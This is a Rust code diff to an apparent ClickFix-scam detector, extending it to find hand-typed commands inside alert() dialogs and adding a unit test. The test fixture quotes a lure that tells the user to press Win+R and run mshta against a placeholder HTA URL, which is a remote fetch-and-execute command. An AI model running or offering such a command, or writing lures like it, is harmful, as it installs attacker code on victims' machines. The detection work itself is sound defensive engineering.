@@ -1334,8 +1334,9 @@ pub fn judge(snap: &Snapshot) -> Option<ClickFix> {
         let with = page_of(snap, &snap.text, &snap.alt_texts, &snap.dialog_texts);
         return assess_command(command, &with, false);
     }
-    // No command copied: a kit may show its command to be typed or pasted by hand.
-    typed(snap, &snap.text)
+    // No command copied: a kit may show its command to be typed or pasted by hand, on the page
+    // or (forged or not, it can only add) in an `alert()`.
+    typed(snap, &snap.text).or_else(|| snap.dialog_texts.iter().find_map(|d| typed(snap, d)))
 }
 
 /// A command shown in `text` to be typed by hand. Only a shape no docs give, with run-dialog
@@ -3131,5 +3132,15 @@ mod tests {
             ..snap(&["Beware of scams: never paste commands a web page gives you."])
         };
         assert_eq!(judge(&page).kind, Kind::Clickfix);
+        // Nothing copied: the command and its steps shown in an alert() to be typed by hand.
+        let typed = Snapshot {
+            clipboard: Clipboard::default(),
+            ..snap(&[
+                "Your document is protected. Verify you are human: press Win+R, type \
+                 mshta https://cdn.example/verify.hta and press Enter.",
+            ])
+        };
+        let v = judge(&typed);
+        assert_eq!((v.level, v.kind), (Level::Scam, Kind::Clickfix));
     }
 }
